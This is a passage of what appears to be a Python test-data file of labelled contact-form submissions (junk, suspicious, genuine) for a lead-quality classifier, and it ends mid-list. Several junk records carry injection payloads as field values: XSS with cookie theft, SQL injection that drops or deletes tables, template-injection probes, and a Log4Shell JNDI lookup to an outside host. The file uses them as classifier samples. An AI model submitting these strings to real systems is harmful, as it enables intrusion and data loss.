    {"firstName": "a", "lastName": "a", "email": "a@a.de", "country": "DE"},
    {"firstName": "Jan", "lastName": "Kowalski", "email": "sdfsdfsdf@gmail.com", "country": "PL"},
    {"firstName": "dfgdfgdfg", "lastName": "Schulz", "email": "schulz.t@gmx.de", "country": "DE"},
    {"firstName": "Hhhhh", "lastName": "Hhhhhh", "email": "hhhh@gmail.com", "country": "DE"},
    {"firstName": "n/a", "lastName": "n/a", "email": "na@na.com", "country": "US"},
    {"firstName": "-", "lastName": "-", "email": "keine@keine.de", "country": "DE"},
    {"firstName": "Vorname", "lastName": "Nachname", "email": "vorname.nachname@firma.de", "country": "DE"},
    {"firstName": "First name", "lastName": "Last name", "email": "email@domain.com", "country": "US"},
    {"firstName": "Ihr Name", "lastName": "", "email": "ihre@email.de", "country": "DE"},
    # placeholder and fictional people
    {"firstName": "Max", "lastName": "Mustermann", "email": "max.mustermann@web.de", "phone": "+49 170 4410823",
     "street": "Musterstraße 1", "postalCode": "12345", "city": "Musterstadt", "country": "DE"},
    {"firstName": "Erika", "lastName": "Mustermann", "email": "erika@mustermann.de", "country": "DE",
     "city": "Köln", "postalCode": "51147"},
    {"firstName": "Erika", "lastName": "Musterfrau", "email": "e.musterfrau@gmx.de", "country": "DE"},
    {"firstName": "Max", "lastName": "Musterman", "email": "maxmusterman@gmail.com", "country": "DE", "city": "Berlin"},
    {"firstName": "Hans", "lastName": "Muster", "email": "hans.muster@bluewin.ch", "country": "CH", "city": "Bern"},
    {"firstName": "Maria", "lastName": "Musterfrau", "email": "maria.musterfrau@gmx.at", "country": "AT"},
    {"firstName": "John", "lastName": "Doe", "email": "john.doe@gmail.com", "country": "US", "phone": "+1 212 555 0123"},
    {"firstName": "Jane", "lastName": "Doe", "email": "jane@doe.com", "country": "GB"},
    {"firstName": "Alice", "lastName": "im Wunderland", "email": "alice@wunderland.de", "country": "DE"},
    {"firstName": "Alice", "lastName": "Wunderland", "email": "alice.w@gmx.de", "country": "DE", "city": "Hamburg"},
    {"firstName": "Micky", "lastName": "Maus", "email": "micky.maus@web.de", "country": "DE", "city": "Entenhausen"},
    {"firstName": "Mickey", "lastName": "Mouse", "email": "mickey@disney.com", "country": "US"},
    {"firstName": "Donald", "lastName": "Duck", "email": "donald.duck@entenhausen.de", "country": "DE"},
    {"firstName": "Dagobert", "lastName": "Duck", "email": "dagobert@geldspeicher.de", "country": "DE"},
    {"firstName": "Homer", "lastName": "Simpson", "email": "homer.simpson@gmail.com", "country": "US", "city": "Springfield"},
    {"firstName": "Harry", "lastName": "Potter", "email": "harry.potter@hogwarts.edu", "country": "GB"},
    {"firstName": "Darth", "lastName": "Vader", "email": "darth@vader.com", "country": "US"},
    {"firstName": "Otto", "lastName": "Normalverbraucher", "email": "otto@normal.de", "country": "DE"},
    {"firstName": "Peter", "lastName": "Pan", "email": "peter.pan@nimmerland.de", "country": "DE"},
    {"firstName": "Pippi", "lastName": "Langstrumpf", "email": "pippi@villa-kunterbunt.se", "country": "SE"},
    {"firstName": "Bugs", "lastName": "Bunny", "email": "bugs.bunny@gmail.com", "country": "US"},
    {"firstName": "Luke", "lastName": "Skywalker", "email": "luke@skywalker.com", "country": "US"},
    {"firstName": "Sherlock", "lastName": "Holmes", "email": "sherlock@bakerstreet.co.uk", "country": "GB",
     "street": "221B Baker Street", "city": "London"},
    {"firstName": "Mustermann", "lastName": "Max", "email": "m.mustermann@t-online.de", "country": "DE"},
    {"firstName": "Erika", "lastName": "Mustermann", "email": "erika.mustermann@example.com", "phone": "+49 30 1234567",
     "company": "Musterfirma GmbH", "jobTitle": "Geschäftsführerin", "country": "DE"},
    # no way to contact
    {"firstName": "Thomas", "lastName": "Berger", "country": "DE", "city": "Bremen"},
    {"firstName": "Julia", "lastName": "Wolff", "company": "Wolff GmbH", "country": "DE", "message": "Interesse"},
    {"firstName": "Peter", "lastName": "Schulz", "email": "", "phone": "", "country": "DE"},
    # script, markup, SQL
    {"firstName": "<script>alert(1)</script>", "lastName": "x", "email": "xss@evil.com", "country": "DE"},
    {"firstName": "Robert'); DROP TABLE leads;--", "lastName": "Tables", "email": "bobby@tables.com", "country": "US"},
    {"firstName": "admin", "lastName": "' OR '1'='1", "email": "admin@site.com", "country": "US"},
    {"firstName": "Anna", "lastName": "Lang", "email": "anna.lang@gmail.com", "country": "DE",
     "message": "1' UNION SELECT username, password FROM users--"},
    {"firstName": "<img src=x onerror=alert(document.cookie)>", "lastName": "Test", "email": "a@b.co", "country": "DE"},
    {"firstName": "{{7*7}}", "lastName": "${7*7}", "email": "ssti@probe.net", "country": "DE"},
    {"firstName": "Paul", "lastName": "Klee", "email": "paul.klee@web.de", "company": "${jndi:ldap://198.51.100.7/a}",
     "country": "DE"},
    {"firstName": "x", "lastName": "x", "email": "x@x.x", "message": "<a href=\"http://spam.example\">click</a>", "country": "DE"},
    {"firstName": "Lisa", "lastName": "Kraft", "email": "lisa.kraft@gmx.de", "city": "Berlin'; DELETE FROM leads WHERE '1'='1",
     "country": "DE"},
    {"firstName": "1", "lastName": "1", "email": "1@1.com", "phone": "1", "country": "DE"},
    # spam with URLs in names / messages
    {"firstName": "Cheap Viagra http://pills.example.ru", "lastName": "Buy", "email": "seo@spam-mail.ru", "country": "RU"},
    {"firstName": "www.best-seo-backlinks.com", "lastName": "SEO", "email": "info@best-seo-backlinks.com", "country": "US"},
    {"firstName": "Visit bit.ly/3xYzAbC", "lastName": "now", "email": "promo@gmail.com", "country": "US"},
    {"firstName": "Crypto", "lastName": "https://crypto-profit.top", "email": "earn@crypto-profit.top", "country": "US"},
    {"firstName": "RobertNeaks", "lastName": "RobertNeaks", "email": "robertneaks@gmail.com", "country": "RU",
     "message": "Earn $5000 per day with crypto trading! Click here: http://crypto-earn.top/?ref=1 http://bit.ly/2x"},
    {"firstName": "Mike", "lastName": "Stevenson", "email": "mike@seo-services.example",
     "message": "Hi! I noticed your website is not ranking on Google. We offer SEO services and backlinks for cheap. "
                "Visit https://seo-rank.top and https://cheap-backlinks.xyz", "country": "US"},
    {"firstName": "Eric", "lastName": "Jones", "email": "eric.jones.z.mail@gmail.com", "country": "US",
     "message": "Cool website! Eric here - want more leads? Try our Web Visitors Into Leads software: https://boostleadgeneration.com"},
    # disposable and placeholder mail domains
    {"firstName": "Laura", "lastName": "Fischer", "email": "laura.fischer@mailinator.com", "country": "DE"},
    {"firstName": "Kevin", "lastName": "Brandt", "email": "kbrandt@guerrillamail.com", "country": "DE"},
    {"firstName": "Markus", "lastName": "Weber", "email": "m.weber@trashmail.de", "country": "DE", "city": "Mainz"},
    {"firstName": "Sarah", "lastName": "Klein", "email": "sklein@wegwerfmail.de", "country": "DE"},
    {"firstName": "Tom", "lastName": "Baker", "email": "tbaker@yopmail.com", "country": "GB"},
    {"firstName": "Nina", "lastName": "Vogel", "email": "nina@10minutemail.com", "country": "DE"},
    {"firstName": "Dennis", "lastName": "Roth", "email": "d.roth@sharklasers.com", "country": "DE"},
    {"firstName": "Emily", "lastName": "Carter", "email": "emily.carter@example.com", "country": "US"},
    {"firstName": "Hannah", "lastName": "Schmitt", "email": "hannah@example.org", "country": "DE"},
    {"firstName": "Ben", "lastName": "Ott", "email": "ben.ott@test.com", "country": "DE"},
    {"firstName": "Olga", "lastName": "Iwanowa", "email": "olga@temp-mail.org", "country": "DE"},
    # fake phones and postal codes, sometimes the only contact
    {"firstName": "Klaus", "lastName": "Hermann", "phone": "0000000", "country": "DE"},
    {"firstName": "Sandra", "lastName": "Berg", "phone": "123456789", "country": "DE", "city": "Leipzig"},
    {"firstName": "Frank", "lastName": "Zimmer", "phone": "+49 1111111111", "country": "DE"},
    {"firstName": "Jens", "lastName": "Kuhn", "phone": "0123 456789", "email": "asdf@gmx.de", "country": "DE"},
    {"firstName": "Monika", "lastName": "Stein", "phone": "999999999", "postalCode": "00000", "city": "Berlin", "country": "DE"},
    # invalid email as the only contact
    {"firstName": "Rainer", "lastName": "Busch", "email": "keine", "country": "DE"},
    {"firstName": "Silke", "lastName": "Hahn", "email": "nomail", "country": "DE"},
    {"firstName": "Werner", "lastName": "Horn", "email": "@@@", "country": "DE"},
    # city that is obviously elsewhere
    {"firstName": "Günter", "lastName": "Beck", "email": "guenter.beck@web.de", "city": "London", "country": "DE",
     "postalCode": "10115"},
    {"firstName": "Sabrina", "lastName": "Roth", "email": "s.roth@gmx.at", "city": "New York", "country": "AT"},
    {"firstName": "Marcel", "lastName": "Frey", "email": "marcel.frey@bluewin.ch", "city": "Tokyo", "country": "CH"},
    {"firstName": "Ute", "lastName": "Seidel", "email": "ute.seidel@t-online.de", "city": "Paris", "country": "DE"},
    # absurd lengths and sentences in name fields
    {"firstName": "A" * 120, "lastName": "B" * 90, "email": "long@gmail.com", "country": "DE"},
    {"firstName": "Ich möchte keine Werbung erhalten bitte löschen Sie meine Daten sofort", "lastName": "x",
     "email": "anonym@gmx.de", "country": "DE"},
    {"firstName": "12345", "lastName": "67890", "email": "12345@web.de", "country": "DE"},
    # bot strings
    {"firstName": "bWjKeLqzPx", "lastName": "TrGhYpQmVn", "email": "wqpeozxk@gmail.com", "country": "US"},
    {"firstName": "XcvBnmQw", "lastName": "Zrtpk", "email": "xcvbnm@outlook.com", "country": "US"},
    {"firstName": "Kjhgfd", "lastName": "Lkjhgf", "email": "kjhgfd@web.de", "country": "DE"},
    {"firstName": "Anonymous", "lastName": "Anonymous", "email": "anonymous@protonmail.com", "country": "DE"},
    {"firstName": "Nobody", "lastName": "None", "email": "nobody@nowhere.com", "country": "US"},
    {"firstName": "Dummy", "lastName": "Dummy", "email": "dummy@dummy.de", "country": "DE"},
    {"firstName": "Fake", "lastName": "Name", "email": "fake@fake.com", "country": "US"},
]

# --------------------------------------------------------------------------------------------
# Suspicious: probably real, but a person should look (typos to fix, contradictions).
# --------------------------------------------------------------------------------------------

SUSPICIOUS = [
    # typo domains of big providers (real people mistyping)
    {"firstName": "Katrin", "lastName": "Vogt", "email": "katrin.vogt@gmial.com", "country": "DE", "city": "Kassel"},
    {"firstName": "Bernd", "lastName": "Lange", "email": "bernd.lange@gmx.dee", "country": "DE"},
    {"firstName": "Heike", "lastName": "Simon", "email": "heike.simon@web.dee", "country": "DE", "phone": "0151 28836410"},
    {"firstName": "Stefan", "lastName": "Frank", "email": "stefan.frank@hotmial.com", "country": "DE"},
    {"firstName": "Michaela", "lastName": "Kurz", "email": "m.kurz@yahooo.de", "country": "DE"},
    {"firstName": "Dirk", "lastName": "Sauer", "email": "dirk.sauer@t-onlien.de", "country": "DE", "city": "Bochum"},
    {"firstName": "James", "lastName": "Walker", "email": "jwalker@outlok.com", "country": "GB"},
    {"firstName": "Carina", "lastName": "Ernst", "email": "carina.ernst@gmail.con", "country": "AT"},
    {"firstName": "Nadine", "lastName": "Pfeiffer", "email": "nadine.pfeiffer@gmai.com", "country": "DE"},
    {"firstName": "Oliver", "lastName": "Haas", "email": "o.haas@gamil.com", "country": "CH"},
    {"firstName": "Thorsten", "lastName": "Kramer", "email": "thorsten.kramer@wbe.de", "country": "DE"},
    {"firstName": "Lena", "lastName": "Busch", "email": "lena.busch@gmx.ent", "country": "DE"},
    {"firstName": "Patrick", "lastName": "Roth", "email": "patrick.roth@icloud.cm", "country": "DE"},
    {"firstName": "Yvonne", "lastName": "Scholz", "email": "yvonne.scholz@freenet.d", "country": "DE"},
    {"firstName": "Ralf", "lastName": "Ludwig", "email": "ralf.ludwig@gmail,com", "country": "DE"},
    {"firstName": "Silvia", "lastName": "Martin", "email": "silvia.martin@gmx..de", "country": "DE"},
    # phone country differs from the stated country
    {"firstName": "Sebastian", "lastName": "Koch", "email": "s.koch@gmail.com", "phone": "+43 664 3928471", "country": "DE"},
    {"firstName": "Elena", "lastName": "Popescu", "email": "elena.popescu@yahoo.com", "phone": "+40 722 418 337",
     "country": "DE", "city": "Stuttgart"},
    {"firstName": "Marc", "lastName": "Dubois", "email": "marc.dubois@orange.fr", "phone": "+33 6 12 84 55 21",
     "country": "CH", "city": "Basel"},
    {"firstName": "Robert", "lastName": "Lewis", "email": "rlewis@gmail.com", "phone": "+44 7700 918273", "country": "US"},
    {"firstName": "Piotr", "lastName": "Zieliński", "email": "p.zielinski@wp.pl", "phone": "+48 601 229 384",
     "country": "AT", "city": "Wien"},
    {"firstName": "Stefanie", "lastName": "Horn", "email": "stefanie.horn@gmx.ch", "phone": "+49 171 5583920", "country": "CH"},
    # phone that cannot be a number (typo, missing digits) but not a placeholder
    {"firstName": "Gabriele", "lastName": "Seifert", "email": "g.seifert@web.de", "phone": "0171 23", "country": "DE"},
    {"firstName": "Ahmet", "lastName": "Kaya", "email": "ahmet.kaya@gmail.com", "phone": "+49 30 9", "country": "DE"},
    {"firstName": "Helga", "lastName": "Brandt", "phone": "+49 89 448812345678", "country": "DE"},
    # city unknown in the stated country, or in another country
    {"firstName": "Jochen", "lastName": "Walter", "email": "jochen.walter@gmx.de", "city": "Salzburg", "country": "DE"},
    {"firstName": "Marlene", "lastName": "Huber", "email": "marlene.huber@gmail.com", "city": "Rosenheim", "country": "AT"},
    {"firstName": "Tim", "lastName": "Schubert", "email": "tim.schubert@web.de", "city": "Zürich", "country": "DE"},
    {"firstName": "Gerd", "lastName": "Möller", "email": "gerd.moeller@t-online.de", "city": "Hintertupfingen", "country": "DE"},
    {"firstName": "Carla", "lastName": "Neumann", "email": "carla.neumann@gmx.de", "city": "Kleinostheimerdorf", "country": "DE"},
    {"firstName": "Pia", "lastName": "Wendt", "email": "pia.wendt@web.de", "city": "Strasbourg", "country": "DE", "postalCode": "77694"},
    # postal code that does not fit the country
    {"firstName": "Susanne", "lastName": "Kraus", "email": "susanne.kraus@gmx.de", "postalCode": "8033", "city": "München", "country": "DE"},
    {"firstName": "Wolfgang", "lastName": "Auer", "email": "w.auer@aon.at", "postalCode": "80331", "city": "Graz", "country": "AT"},
    {"firstName": "Andreas", "lastName": "Keller", "email": "a.keller@bluewin.ch", "postalCode": "CH-80010", "city": "Zürich", "country": "CH"},
    {"firstName": "Emma", "lastName": "Taylor", "email": "emma.taylor@gmail.com", "postalCode": "ABC 123", "city": "London", "country": "GB"},
    {"firstName": "Lars", "lastName": "Jung", "email": "lars.jung@web.de", "postalCode": "12345", "city": "Bremen", "country": "DE"},
    # only one of two names, initials, all caps, digits
    {"firstName": "Sabine", "lastName": "", "email": "sabine1971@gmx.de", "country": "DE", "city": "Hannover"},
    {"firstName": "", "lastName": "Herrmann", "email": "herrmann.k@t-online.de", "country": "DE"},
    {"lastName": "Krüger", "email": "krueger@web.de", "country": "DE", "phone": "0172 4419823"},
    {"firstName": "M.", "lastName": "Schmidt", "email": "m.schmidt1@gmx.de", "country": "DE"},
    {"firstName": "MICHAEL", "lastName": "SCHNEIDER", "email": "MICHAEL.SCHNEIDER@T-ONLINE.DE", "country": "DE", "city": "ESSEN"},
    {"firstName": "KARIN", "lastName": "WEBER", "email": "karin.weber@web.de", "country": "DE"},
    {"firstName": "Thomas2", "lastName": "Fischer", "email": "thomas.fischer@gmail.com", "country": "DE"},
    {"firstName": "Anna", "lastName": "Anna", "email": "anna.anna@gmx.de", "country": "DE"},
    {"email": "kontakt.lehmann@gmail.com", "country": "DE", "message": "Bitte Infomaterial schicken"},
    {"firstName": "J", "lastName": "K", "email": "jk1988@gmail.com", "country": "DE"},
    # odd but maybe real
    {"firstName": "Herr", "lastName": "Becker", "email": "becker.h@web.de", "country": "DE"},
    {"firstName": "Frau", "lastName": "Dr. Wolf", "email": "dr.wolf@praxis-wolf.de", "country": "DE"},
    {"firstName": "Nicole", "lastName": "Richter", "email": "nicole.richter@web.de", "country": "XX"},
    {"firstName": "Tanja", "lastName": "Schuster", "email": "test.schuster@gmail.com", "country": "DE"},
    {"firstName": "Kai", "lastName": "Möller", "email": "kai.moeller@gmx.de", "street": "Musterweg 5", "country": "DE", "city": "Lübeck"},
    {"firstName": "Ingo", "lastName": "Berger", "email": "ingo@berger-bau.de", "company": "Berger Bau", "country": "DE",
     "message": "Angebot siehe http://berger-bau.de/a http://berger-bau.de/b http://berger-bau.de/c http://berger-bau.de/d"},
    {"firstName": "Ivan", "lastName": "Petrov", "email": "ivan.petrov@mail.ru", "phone": "+7 916 123 4567", "country": "DE"},
    {"firstName": "Leo", "lastName": "Brandl", "email": "leo.brandl@gmail.de", "country": "AT"},
    {"firstName": "Christian", "lastName": "Vogel", "email": "christian.vogel@gmx.de", "phone": "089", "country": "DE"},
    {"firstName": "Birgit", "lastName": "Franke", "email": "birgit.franke@gmx.de", "city": "Springfield", "country": "DE"},
]


# --------------------------------------------------------------------------------------------
# A second batch, written after the first version of the rules as a check on data
# they had not been fitted to (kept: more variety). Same labels, same judgement.
# --------------------------------------------------------------------------------------------

LATER_GENUINE = [
 {"firstName":"Lisa","lastName":"Meyer","email":"lisa.meyer92@gmx.de","phone":"0160 95571234","city":"Bremen","postalCode":"28199","country":"DE"},
 {"firstName":"Thomas","lastName":"Müller","email":"t.mueller@web.de","country":"DE","city":"Garching bei München","postalCode":"85748"},
 {"firstName":"Hiroshi","lastName":"Watanabe","email":"h.watanabe@toyota.co.jp","phone":"+81 3-5555-1234","company":"Toyota Motor Corporation","country":"JP","city":"Toyota"},
 {"firstName":"Mei","lastName":"Lin","email":"mei.lin@163.com","country":"CN","city":"Hangzhou"},
 {"firstName":"Seo-yeon","lastName":"Choi","email":"seoyeon.choi@naver.com","country":"KR","city":"Incheon"},
 {"firstName":"Minh","lastName":"Nguyen","email":"minh.nguyen@fpt.com.vn","country":"VN","city":"Da Nang"},
 {"firstName":"Liam","lastName":"O'Sullivan","email":"liam.osullivan@eircom.net","country":"IE","city":"Galway"},
 {"firstName":"Giuseppe","lastName":"Russo","email":"g.russo@libero.it","country":"IT","city":"Napoli","postalCode":"80121"},
 {"firstName":"Ana","lastName":"Pereira","email":"ana.pereira@sapo.pt","country":"PT","city":"Braga"},
 {"firstName":"Lars","lastName":"Eriksson","email":"lars.eriksson@telia.com","country":"SE","city":"Uppsala"},
 {"firstName":"Anneke","lastName":"de Jong","email":"anneke.dejong@ziggo.nl","country":"NL","city":"Groningen","postalCode":"9711 AB"},
 {"firstName":"Sandra","lastName":"Widmer","email":"sandra.widmer@bluewin.ch","country":"CH","city":"Winterthur","postalCode":"8400","phone":"+41 52 212 34 56"},
 {"firstName":"Fabienne","lastName":"Rochat","email":"f.rochat@romandie.ch","country":"CH","city":"Neuchâtel","postalCode":"2000"},
 {"firstName":"Claudia","lastName":"Schneider-Kühn","email":"claudia@schneider-kuehn.de","company":"Praxis für Physiotherapie","jobTitle":"Inhaberin","country":"DE","city":"Bad Homburg vor der Höhe","postalCode":"61348"},
 {"firstName":"Michael","lastName":"Weber","email":"michael.weber@siemens-healthineers.com","jobTitle":"Head of Procurement","company":"Siemens Healthineers AG","country":"DE","city":"Erlangen"},
 {"firstName":"Jan","lastName":"de Boer","email":"jan@deboer.nl","country":"NL"},
 {"firstName":"Emre","lastName":"Yıldırım","email":"emre.yildirim@hotmail.com","country":"DE","city":"Duisburg","postalCode":"47051"},
 {"firstName":"Fatima","lastName":"Zahra","email":"fatima.zahra@gmail.com","country":"MA","city":"Casablanca"},
 {"firstName":"Chidi","lastName":"Okafor","email":"chidi.okafor@gmail.com","country":"NG","city":"Abuja"},
 {"firstName":"Ricardo","lastName":"Silva","email":"ricardo.silva@uol.com.br","country":"BR","city":"Belo Horizonte"},
 {"firstName":"Sarah","lastName":"Cohen","email":"sarah.cohen@gmail.com","country":"IL","city":"Tel Aviv"},
 {"firstName":"Noah","lastName":"Fischer","email":"noah.fischer@proton.me","country":"DE","city":"Freiburg","postalCode":"79098"},
 {"firstName":"Anja","lastName":"Lehmann","email":"anja.lehmann@t-online.de","country":"DE","city":"Chemnitz","postalCode":"09111","interests":["Workshops","Newsletter"]},
]

LATER_JUNK = [
 {"firstName":"Max","lastName":"Mustermann","email":"max@mustermann.de","phone":"0123456789","city":"Musterstadt","postalCode":"12345","country":"DE"},
 {"firstName":"asdasd","lastName":"asdasd","email":"asdasd@asd.de","country":"DE"},
 {"firstName":"Test","lastName":"Tester","email":"test@example.com"},
 {"firstName":"fdsfds","lastName":"fdsfsd","email":"fdsfds@gmail.com"},
 {"firstName":"John","lastName":"Smith","email":"john.smith@mailinator.com","country":"US"},
 {"firstName":"Peter","lastName":"Schmidt","email":"peter@guerrillamailblock.com","country":"DE"},
 {"firstName":"Hello","lastName":"World","email":"hello@world.com"},
 {"firstName":"Erika","lastName":"Mustermann","email":"erika.mustermann@gmx.de","phone":"+49 30 1234567","country":"DE"},
 {"firstName":"Jane","lastName":"Doe","email":"jane.doe@example.org","country":"US"},
 {"firstName":"Alice","lastName":"Wonderland","email":"alice@wonderland.com","country":"GB"},
 {"firstName":"Donald","lastName":"Duck","email":"donald@duck.de","city":"Entenhausen","country":"DE"},
 {"firstName":"xyz","lastName":"xyz","email":"xyz@xyz.xyz"},
 {"firstName":"aaaaa","lastName":"bbbbb","email":"aaaaa@bbbbb.de"},
 {"firstName":"Klaus","lastName":"Meier","email":"k.meier@web.de","city":"London","country":"DE"},
 {"firstName":"<b>Hi</b>","lastName":"Test","email":"x@y.com"},
 {"firstName":"Robert","lastName":"'; DROP TABLE users; --","email":"robert@gmail.com"},
 {"firstName":"Buy","lastName":"Cheap Rolex","email":"sales@replica-watches.cn","message":"Best replica watches at http://replica.example.cn"},
 {"firstName":"Anna","lastName":"Schmidt","email":"anna.schmidt@gmail.com","phone":"000000000","country":"DE"},
 {"firstName":"Anna","lastName":"Schmidt","country":"DE","city":"Berlin","company":"Schmidt AG"},
 {"firstName":"Mickey","lastName":"Mouse","email":"mickey.mouse@gmail.com"},
 {"firstName":"qwe","lastName":"qwe","email":"qwe@qwe.qwe"},
 {"firstName":"Vorname","lastName":"Nachname","email":"vorname.nachname@gmail.com"},
 {"firstName":"Darth","lastName":"Vader","email":"darth.vader@empire.com"},
 {"firstName":"Maria","lastName":"Muster","email":"maria.muster@bluewin.ch","country":"CH"},
 {"firstName":"Sven","lastName":"Becker","email":"sven@yopmail.com","country":"DE"},
 {"firstName":"Tom","lastName":"Jones","email":"tom.jones@10minutemail.net"},
 {"firstName":"Nina","lastName":"Paul","email":"nina.paul@gmail.com","postalCode":"00000","city":"xxx","country":"DE"},
 {"firstName":"Lisa","lastName":"Müller","email":"lisa.mueller@gmx.de","phone":"1234567890","country":"DE"},
 {"firstName":"keine","lastName":"Angabe","email":"keine@angabe.de"},
 {"firstName":"Sdf","lastName":"Sdf","email":"sdf@sdf.sdf"},
]

LATER_SUSPICIOUS = [
 {"firstName":"Martina","lastName":"Koch","email":"martina.koch@gmail.co","country":"DE"},
 {"firstName":"Uwe","lastName":"Hartmann","email":"uwe.hartmann@gmx.dee","country":"DE","city":"Kassel"},
 {"firstName":"Sabine","lastName":"Werner","email":"sabine.werner@web.de","phone":"+41 79 123 45 67","country":"DE"},
 {"firstName":"Peter","lastName":"Schulz","email":"peter.schulz@t-online.de","city":"Wien","country":"DE"},
 {"firstName":"Frank","lastName":"Braun","email":"frank.braun@web.de","city":"Hamburg","postalCode":"80331","country":"DE"},
 {"firstName":"JÜRGEN","lastName":"MEYER","email":"juergen.meyer@t-online.de","country":"DE"},
 {"firstName":"Renate","lastName":"","email":"renate.k@web.de","country":"DE"},
 {"firstName":"Tobias","lastName":"Lang","email":"tobias.lang@hotmial.de","country":"DE"},
 {"firstName":"Kerstin","lastName":"Vogel","email":"kerstin.vogel@gmail.com","phone":"+49 170 12","country":"DE"},
 {"firstName":"Dieter","lastName":"Wolf","email":"dieter.wolf@gmx.net","city":"Oberkleinhausen","country":"DE"},
 {"firstName":"Heinz","lastName":"Schäfer","email":"heinz.schaefer@web.de","postalCode":"1234","city":"Hannover","country":"DE"},
 {"firstName":"Claire","lastName":"Martin","email":"claire.martin@orange.fr","phone":"+33 6 12 34 56 78","country":"BE","city":"Lille"},
 {"firstName":"A.","lastName":"Becker","email":"a.becker@gmx.de","country":"DE"},
 {"firstName":"Ralf","lastName":"Krause","email":"ralf.krause@yahoo.con","country":"DE"},
 {"firstName":"Monika","lastName":"Huber","email":"monika.huber@gmx.at","city":"Salzburg","country":"DE"},
]


# --------------------------------------------------------------------------------------------
# Relabelled in the second pass (issue 13): these were "genuine" before, but a role mailbox
# with "Info Team" as the name, a name in lower case, and phone numbers whose subscriber part
# counts up or down are what a reviewer wants to see; a NANP 555-01xx number is reserved for
# fiction and reaches nobody.
# --------------------------------------------------------------------------------------------

RELABELLED_SUSPICIOUS = [
 {"firstName": "anna", "lastName": "schmidt", "email": "anna.schmidt@web.de", "country": "DE",
                    "city": "hamburg", "postalCode": "22767"},
 {"firstName": "Info", "lastName": "Team", "email": "info@schreinerei-kurz.de",
                    "company": "Schreinerei Kurz", "country": "DE", "city": "Freising", "postalCode": "85354"},
 {"firstName":"Stefan","lastName":"Hoffmann","email":"stefan.hoffmann@hoffmann-elektro.de","phone":"+49 (0) 711 / 2345 678","company":"Hoffmann Elektrotechnik GmbH","jobTitle":"Geschäftsführer","street":"Industriestr. 14","postalCode":"70565","city":"Stuttgart","country":"DE"},
 {"firstName":"Aarav","lastName":"Gupta","email":"aarav.gupta@tcs.com","phone":"+91 98765 43210","country":"IN","city":"Pune","postalCode":"411001"},
 {"firstName":"Yasmin","lastName":"El-Amrani","email":"yasmin.elamrani@outlook.de","phone":"+49 1512 3456789","city":"Offenbach","postalCode":"63065","country":"DE"},
 {"firstName":"Olivia","lastName":"Brown","email":"olivia.brown@gmail.com","phone":"+44 7911 123456","country":"GB","city":"Bristol","postalCode":"BS1 5TR"},
 {"firstName":"Sophie","lastName":"Durand","email":"sophie.durand@free.fr","phone":"06 12 34 56 78","country":"FR","city":"Nantes","postalCode":"44000"},
 {"firstName":"Jakub","lastName":"Nowicki","email":"jakub.nowicki@wp.pl","phone":"+48 512 345 678","country":"PL","city":"Poznań","postalCode":"61-001"},
 {"firstName":"Matthias","lastName":"Gruber","email":"m.gruber@gruber-bau.at","company":"Gruber Bau GmbH","country":"AT","city":"Wels","postalCode":"4600","phone":"+43 7242 12345"},
 {"firstName":"Ingrid","lastName":"Bauer","phone":"08031 234567","country":"DE","city":"Rosenheim","message":"Bitte rufen Sie mich an, ich habe keine E-Mail."},
 {"firstName":"Benedikt","lastName":"Krämer","email":"b.kraemer@kraemer-consulting.de","phone":"+49 221 98765432","company":"Krämer Consulting","country":"DE","city":"Köln","postalCode":"50667","message":"Wir möchten 25 Lizenzen, bitte um ein Angebot. Details: https://kraemer-consulting.de/projekt"},
]

RELABELLED_JUNK = [
 {"firstName": "Donald", "lastName": "Brooks", "email": "dbrooks@comcast.net", "country": "US",
                    "city": "Denver", "postalCode": "80202", "phone": "+1 303 555 0182"},
]


# --------------------------------------------------------------------------------------------
# Second pass (issue 13): new KINDS of submissions, generated from new material with their
# own random stream (the first pass stays as it was). People and companies here appear
# nowhere above; each suspicious or junk record is a genuine-looking one with one anomaly.
# --------------------------------------------------------------------------------------------

rng2 = random.Random(13)

NEW_PEOPLE = [
    ("Hatice", "Doğan", "DE"), ("Przemysław", "Grzybowski", "DE"), ("Thanh Hương", "Phạm", "DE"),
    ("Omar", "Al Khatib", "DE"), ("Xiaoming", "Zhou", "DE"), ("Ji-hoon", "Kang", "DE"), ("Li", "Wu", "DE"),
    ("An", "Ng", "GB"), ("Bo", "Yu", "DE"), ("Sören", "Meißner", "DE"), ("Hans-Jürgen", "von der Heide", "DE"),
    ("Annegret", "Müller-Lüdenscheidt", "DE"), ("Wiebke", "Oltmanns", "DE"), ("Ivana", "Kovačević", "AT"),
    ("Radu", "Ionescu", "AT"), ("Małgorzata", "Szczepańska", "DE"), ("Dilara", "Karagöz", "DE"),
    ("Nikolaos", "Papadakis", "DE"), ("Ewa", "Kołodziej", "PL"), ("Jörg", "Schwarzkopf", "DE"),
    ("Friederike", "zu Stolberg", "DE"), ("Ngọc Anh", "Đỗ", "DE"), ("Huong", "Vu", "DE"),
    ("Abdullah", "bin Rashid", "AE"), ("Aisha", "Abdi", "SE"), ("Yannick", "N'Diaye", "FR"),
    ("Pierre-Yves", "Le Goff", "FR"), ("Cheng", "Xu", "CN"), ("Ming", "Ho", "SG"),
    ("Grzegorz", "Brzęczyszczykiewicz", "PL"), ("Siddharth", "Venkataraman", "IN"), ("Oluwaseun", "Adeyemi", "NG"),
    ("Tamás", "Kovács", "HU"), ("Hüseyin", "Çetinkaya", "DE"), ("Magdalena", "Schwarzenegger", "AT"),
    ("Urs", "Zbinden", "CH"), ("Gian-Luca", "Caflisch", "CH"), ("Mathilde", "de la Tour", "FR"),
    ("Kofi", "Boateng", "DE"), ("Saskia", "Brinkmann", "DE"), ("Jens", "Thiessen", "DE"), ("Ute", "Öhler", "DE"),
    ("Eike", "Ahrens", "DE"), ("Lu", "Ma", "CN"), ("Nour", "El Hadi", "DE"), ("Alexander", "Wójtowicz", "DE"),
    ("Christina", "Hämmerle", "AT"), ("Josef", "Brandstätter", "AT"), ("Katharina", "Nguyen-Thi", "DE"),
    ("Mustafa", "Yıldırım", "DE"), ("Ilse", "ter Horst", "DE"), ("Rüdiger", "Vogelsang", "DE"),
    ("Dženan", "Hodžić", "AT"), ("Anastasia", "Kuznetsova", "DE"), ("Ole", "Sørensen", "DK"),
    ("Valentina", "Ferrari", "IT"), ("Joaquín", "Ruiz de Alarcón", "ES"), ("Mariana", "Costa", "PT"),
    ("Emily", "O'Neill", "IE"), ("Daniel", "Schwarz", "CH"), ("Benjamin", "Lefebvre", "BE"),
]
# Short forms people use in their address (the start of the name, or not).
NICKNAMES = {"Alexander": "alex", "Christina": "chris", "Josef": "sepp", "Przemysław": "przemek",
             "Małgorzata": "gosia", "Friederike": "rike", "Hans-Jürgen": "hajo", "Katharina": "kathi",
